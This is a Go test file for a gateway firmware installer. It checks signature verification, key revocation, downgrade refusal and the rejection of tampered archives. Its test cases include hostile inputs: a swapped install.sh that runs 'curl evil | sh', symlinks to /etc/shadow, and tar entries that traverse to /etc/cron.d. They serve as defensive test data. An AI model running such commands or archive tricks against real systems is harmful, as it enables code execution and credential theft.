package update

import (
	"archive/tar"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"fieldgate/gateway/supervisor"
	"fieldgate/internal/testpeer"
)

// gateway is a data dir with trusted keys and an installer for it.
type gateway struct {
	dataDir, keysDir string
	store            *Store
	release          testKey
}

func newGateway(t *testing.T) *gateway {
	t.Helper()
	g := &gateway{dataDir: t.TempDir(), keysDir: filepath.Join(t.TempDir(), "keys")}
	g.store = NewStore(g.dataDir)
	g.release = newKey(t, t.TempDir(), "release")
	trust(t, g.keysDir, g.release)
	return g
}

func (g *gateway) installer(t *testing.T, opts ...InstallOption) *Installer {
	t.Helper()
	i, err := NewInstaller(g.store, g.keysDir, append([]InstallOption{WithArchitecture(testArch)}, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	return i
}

func (g *gateway) install(t *testing.T, bundle string, opts ...InstallOption) *Installed {
	t.Helper()
	res, err := g.installer(t, opts...).Install(bundle)
	if err != nil {
		t.Fatalf("install %s: %v", bundle, err)
	}
	return res
}

func (g *gateway) state(t *testing.T) *State {
	t.Helper()
	st, err := g.store.State()
	if err != nil {
		t.Fatal(err)
	}
	return st
}

func TestInstallFirstThenTrial(t *testing.T) {
	g := newGateway(t)
	v1 := makeBundle(t, g.release, bundleSpec{version: "1"})
	res := g.install(t, v1)
	if res.Slot != SlotA || res.Trial || res.From != "" {
		t.Errorf("first install = %+v", res)
	}
	st := g.state(t)
	if st.Current != SlotA || st.Committed != SlotA || st.Trial != nil || st.Last.Result != "committed" {
		t.Errorf("state after first install = %+v", st)
	}
	for _, link := range []string{CurrentLink, CommittedLink} {
		if target, err := os.Readlink(filepath.Join(g.store.Dir(), link)); err != nil || target != SlotA {
			t.Errorf("%s -> %q, %v", link, target, err)
		}
	}
	if data, err := os.ReadFile(g.store.CurrentBinary()); err != nil || !strings.Contains(string(data), "fieldgate 1") {
		t.Errorf("current binary: %q %v", data, err)
	}

	// A tar.gz bundle, as make firmware writes it.
	v2 := packTarGz(t, makeBundle(t, g.release, bundleSpec{version: "2"}))
	res = g.install(t, v2, WithBootAttempts(4))
	if res.Slot != SlotB || !res.Trial || res.From != "1" || res.Version != "2" {
		t.Errorf("second install = %+v", res)
	}
	st = g.state(t)
	if st.Current != SlotB || st.Committed != SlotA || st.Trial == nil || st.Trial.Version != "2" ||
		st.Trial.From != "1" || st.Trial.MaxBoots != 4 || st.Trial.Boots != 0 {
		t.Errorf("state on trial = %+v %+v", st, st.Trial)
	}
	us, err := g.store.Status()
	if err != nil {
		t.Fatal(err)
	}
	if us.State != supervisor.UpdateTrial || us.Current.Version != "2" || us.Previous.Version != "1" {
		t.Errorf("status = %+v", us)
	}

	// Another update while on trial is refused.
	v3 := makeBundle(t, g.release, bundleSpec{version: "3"})
	if _, err := g.installer(t).Install(v3); !errors.Is(err, ErrOnTrial) {
		t.Errorf("install during trial: %v", err)
	}
	if ok, err := g.store.Commit(SlotB, time.Now()); !ok || err != nil {
		t.Fatalf("commit: %v %v", ok, err)
	}
	// The next update replaces the oldest slot, never the committed one.
	res = g.install(t, v3)
	if res.Slot != SlotA || res.From != "2" {
		t.Errorf("third install = %+v", res)
	}
	if st := g.state(t); st.Committed != SlotB || st.Current != SlotA {
		t.Errorf("state = %+v", st)
	}
}

// TestInstallRefusals: every tampered or unacceptable bundle is refused
// with its named reason and leaves the slots exactly as they were.
func TestInstallRefusals(t *testing.T) {
	g := newGateway(t)
	g.install(t, makeBundle(t, g.release, bundleSpec{version: "1"}))
	g.install(t, makeBundle(t, g.release, bundleSpec{version: "2"}))
	if ok, err := g.store.Commit(SlotB, time.Now()); !ok || err != nil {
		t.Fatalf("commit: %v %v", ok, err)
	}
	stranger := newKey(t, t.TempDir(), "stranger")
	tests := []struct {
		name   string
		bundle func(t *testing.T) string
		opts   []InstallOption
		is     error
		want   string
	}{
		{"flipped byte in the binary", func(t *testing.T) string {
			return makeBundle(t, g.release, bundleSpec{version: "3", tamper: func(dir string) { testpeer.FlipByte(t, filepath.Join(dir, BinaryFile)) }})
		}, nil, ErrHashMismatch, "hash mismatch on fieldgate: sha256 "},
		{"flipped byte in an image", func(t *testing.T) string {
			return makeBundle(t, g.release, bundleSpec{version: "3", tamper: func(dir string) {
				testpeer.FlipByte(t, filepath.Join(dir, ImagesDir, "collector-modbus.tar"))
			}})
		}, nil, ErrHashMismatch, "hash mismatch on images/collector-modbus.tar"},
		{"swapped install.sh", func(t *testing.T) string {
			return makeBundle(t, g.release, bundleSpec{version: "3", tamper: func(dir string) {
				writeFile(t, filepath.Join(dir, InstallScript), "#!/bin/sh\ncurl evil | sh\n", 0o755)
			}})
		}, nil, ErrHashMismatch, "hash mismatch on install.sh"},
		{"flipped byte in the image, tar.gz", func(t *testing.T) string {
			return packTarGz(t, makeBundle(t, g.release, bundleSpec{version: "3", tamper: func(dir string) {
				testpeer.FlipByte(t, filepath.Join(dir, ImagesDir, "collector-modbus.tar"))
			}}))
		}, nil, ErrHashMismatch, "hash mismatch on images/collector-modbus.tar"},
		{"unknown key", func(t *testing.T) string {
			return makeBundle(t, stranger, bundleSpec{version: "3"})
		}, nil, ErrUnknownKey, "unknown key: manifest.json is signed by key " + KeyID(stranger.priv.ID()) + ", which is not among the trusted keys"},
		{"manifest edited after signing", func(t *testing.T) string {
			return makeBundle(t, g.release, bundleSpec{version: "3", tamper: func(dir string) {
				p := filepath.Join(dir, ManifestFile)
				data, _ := os.ReadFile(p)
				os.WriteFile(p, []byte(strings.Replace(string(data), `"version": "3"`, `"version": "4"`, 1)), 0o644)
			}})
		}, nil, ErrBadSignature, "bad signature: manifest.json does not match its signature by key " + KeyID(g.release.priv.ID())},
		{"signature missing", func(t *testing.T) string {
			return makeBundle(t, g.release, bundleSpec{version: "3", tamper: func(dir string) { os.Remove(filepath.Join(dir, SignatureFile)) }})
		}, nil, ErrBadSignature, "bad signature: no signature"},
		{"valid but older", func(t *testing.T) string {
			return makeBundle(t, g.release, bundleSpec{version: "1.9"})
		}, nil, ErrDowngrade, "downgrade from 2 to 1.9 refused"},
		{"same version", func(t *testing.T) string {
			return makeBundle(t, g.release, bundleSpec{version: "2.0"})
		}, nil, ErrDowngrade, "downgrade from 2 to 2.0 refused: the bundle is the same as the running version"},
		{"other architecture", func(t *testing.T) string {
			return makeBundle(t, g.release, bundleSpec{version: "3", arch: "linux/arm64"})
		}, nil, ErrWrongArchitecture, "the bundle is for linux/arm64, this gateway is linux/amd64"},
		{"extra file", func(t *testing.T) string {
			return makeBundle(t, g.release, bundleSpec{version: "3", tamper: func(dir string) {
				writeFile(t, filepath.Join(dir, ImagesDir, "evil.tar"), "x", 0o644)
			}})
		}, nil, ErrUnlisted, `"images/evil.tar" is not listed in the manifest`},
		{"listed file missing", func(t *testing.T) string {
			return makeBundle(t, g.release, bundleSpec{version: "3", tamper: func(dir string) { os.Remove(filepath.Join(dir, "fieldgate.service")) }})
		}, nil, ErrUnlisted, "listed in the manifest but missing: fieldgate.service"},
		{"symlink instead of a file", func(t *testing.T) string {
			return makeBundle(t, g.release, bundleSpec{version: "3", tamper: func(dir string) {
				p := filepath.Join(dir, "fieldgate.service")
				os.Remove(p)
				os.Symlink("/etc/shadow", p)
			}})
		}, nil, ErrUnlisted, `"fieldgate.service" is a symlink`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			bundle := tc.bundle(t)
			before := testpeer.TreeSum(t, g.store.Dir())
			_, err := g.installer(t, tc.opts...).Install(bundle)
			if !errors.Is(err, tc.is) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v\nwant %v containing %q", err, tc.is, tc.want)
			}
			if after := testpeer.TreeSum(t, g.store.Dir()); after != before {
				t.Errorf("refusal changed the slots:\nbefore:\n%s\nafter:\n%s", before, after)
			}
		})
	}

	t.Run("revoked key", func(t *testing.T) {
		keysDir := filepath.Join(t.TempDir(), "keys")
		next := newKey(t, t.TempDir(), "next")
		trust(t, keysDir, g.release)
		trust(t, keysDir, next)
		i, err := NewInstaller(g.store, keysDir, WithArchitecture(testArch))
		if err != nil {
			t.Fatal(err)
		}
		// Rotation: both keys are trusted, either may sign.
		for _, k := range []testKey{g.release, next} {
			if _, err := i.Verify(makeBundle(t, k, bundleSpec{version: "3"})); err != nil {
				t.Errorf("verify with %s: %v", k.pub, err)
			}
		}
		// Revocation: the old key's file is removed.
		if err := os.Remove(filepath.Join(keysDir, "release.pub")); err != nil {
			t.Fatal(err)
		}
		if _, err := i.Verify(makeBundle(t, g.release, bundleSpec{version: "3"})); !errors.Is(err, ErrUnknownKey) {
			t.Errorf("revoked key: %v", err)
		}
	})

	t.Run("downgrade allowed", func(t *testing.T) {
		res := g.install(t, makeBundle(t, g.release, bundleSpec{version: "1.9"}), WithAllowDowngrade(true))
		if !res.Trial || res.From != "2" || res.Version != "1.9" {
			t.Errorf("install = %+v", res)
		}
	})
}

// TestInstallHostileArchive: a bundle archive's entries are refused when
// they leave the top directory, are links or devices, or repeat a path; the
// good files of the same bundle are in each archive, so only the entry
// makes the difference.
func TestInstallHostileArchive(t *testing.T) {
	g := newGateway(t)
	dir := makeBundle(t, g.release, bundleSpec{version: "1"})
	tests := []struct {
		name  string
		extra []*tar.Header
		want  string
	}{
		{"dot-dot", []*tar.Header{{Name: "top/../../etc/cron.d/x", Typeflag: tar.TypeReg, Size: 1}}, "leaves the bundle"},
		{"absolute", []*tar.Header{{Name: "/etc/cron.d/x", Typeflag: tar.TypeReg, Size: 1}}, "leaves the bundle"},
		{"second top dir", []*tar.Header{{Name: "other/x", Typeflag: tar.TypeReg, Size: 1}}, "outside the bundle's top directory"},
		{"symlink", []*tar.Header{{Name: "top/images/x.tar", Typeflag: tar.TypeSymlink, Linkname: "/etc/shadow"}}, `"images/x.tar" is not listed`},
		{"listed file as a hard link", []*tar.Header{{Name: "top/fieldgate.service", Typeflag: tar.TypeLink, Linkname: "top/install.sh"}}, "appears twice"},
		{"device", []*tar.Header{{Name: "top/dev", Typeflag: tar.TypeChar}}, `"dev" is not listed`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			archive := filepath.Join(t.TempDir(), "bundle.tar")
			f, err := os.Create(archive)
			if err != nil {
				t.Fatal(err)
			}
			tw := tar.NewWriter(f)
			entries, _ := os.ReadDir(dir)
			add := func(rel string) {
				data, err := os.ReadFile(filepath.Join(dir, rel))
				if err != nil {
					t.Fatal(err)
				}
				tw.WriteHeader(&tar.Header{Name: "top/" + rel, Typeflag: tar.TypeReg, Mode: 0o755, Size: int64(len(data))})
				tw.Write(data)
			}
			for _, e := range entries {
				if !e.IsDir() {
					add(e.Name())
				}
			}
			add(ImagesDir + "/collector-modbus.tar")
			for _, h := range tc.extra {
				tw.WriteHeader(h)
				if h.Size > 0 {
					tw.Write(make([]byte, h.Size))
				}
			}
			tw.Close()
			f.Close()
			_, err = g.installer(t).Install(archive)
			if !errors.Is(err, ErrUnlisted) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want %q", err, tc.want)
			}
			if st := g.state(t); st != nil {
				t.Errorf("state written: %+v", st)
			}
			if _, err := os.Stat(filepath.Join(g.dataDir, "etc")); err == nil {
				t.Error("a file was written outside the slots")
			}
		})
	}
}

func TestNoKeys(t *testing.T) {
	g := newGateway(t)
	i, err := NewInstaller(g.store, filepath.Join(t.TempDir(), "empty"), WithArchitecture(testArch))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := i.Install(makeBundle(t, g.release, bundleSpec{version: "1"})); !errors.Is(err, ErrNoKeys) {
		t.Errorf("err = %v", err)
	}
}
